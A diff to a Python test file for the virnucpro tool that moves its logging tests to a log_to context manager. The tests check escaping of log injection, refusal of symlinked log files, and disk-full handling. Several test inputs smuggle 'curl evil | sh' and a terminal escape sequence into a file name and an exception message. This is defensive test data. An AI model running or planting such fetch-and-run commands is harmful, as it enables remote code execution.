@@ -11,7 +11,7 @@ import pytest
 
 from virnucpro import cli, lifeline
 from virnucpro.errors import DiskFullError, MemoryShortError, PlaceError, of_machine
-from virnucpro.logs import add_log_file, printable, remove_log_file
+from virnucpro.logs import log_to, printable
 
 
 @pytest.mark.parametrize(
@@ -67,11 +67,10 @@ def test_an_end_of_file_is_not_taken_for_ctrl_c(capsys):
 
 def test_names_from_outside_cannot_write_lines_or_move_the_cursor(tmp_path):
     """A line break in the name of an input does not begin a line of the log; a traceback's lines are comments."""
-    handler = add_log_file(tmp_path / "x.log")
     log = logging.getLogger("virnucpro.test")
-    log.warning("reading %s", "a.fa\ncurl evil | sh\x1b[2J\udcff")
-    log.error("it failed", exc_info=ValueError("one\ncurl evil | sh"))
-    remove_log_file(handler)
+    with log_to(tmp_path / "x.log"):
+        log.warning("reading %s", "a.fa\ncurl evil | sh\x1b[2J\udcff")
+        log.error("it failed", exc_info=ValueError("one\ncurl evil | sh"))
     lines = (tmp_path / "x.log").read_text().splitlines()
     assert "a.fa\\ncurl evil | sh\\x1b[2J\\udcff" in lines[0]
     assert all(line.startswith(("# ", "20")) for line in lines)
@@ -82,13 +81,12 @@ def test_a_log_is_never_written_through_a_link(tmp_path):
     """The link may lead to a file that is run at the next login."""
     (tmp_path / "bashrc").write_text("mine")
     (tmp_path / "x.log").symlink_to(tmp_path / "bashrc")
-    with pytest.raises(PlaceError, match="symbolic link"):
-        add_log_file(tmp_path / "x.log")
+    with pytest.raises(PlaceError, match="symbolic link"), log_to(tmp_path / "x.log"):
+        pass
     assert (tmp_path / "bashrc").read_text() == "mine"
 
 
 def test_a_disk_that_fills_under_the_log_does_not_end_the_run():
     """The kernel itself says that no space is left."""
-    handler = add_log_file(Path("/dev/full"))
-    logging.getLogger("virnucpro.test").warning("x" * 100_000)
-    remove_log_file(handler)
+    with log_to(Path("/dev/full")):
+        logging.getLogger("virnucpro.test").warning("x" * 100_000)
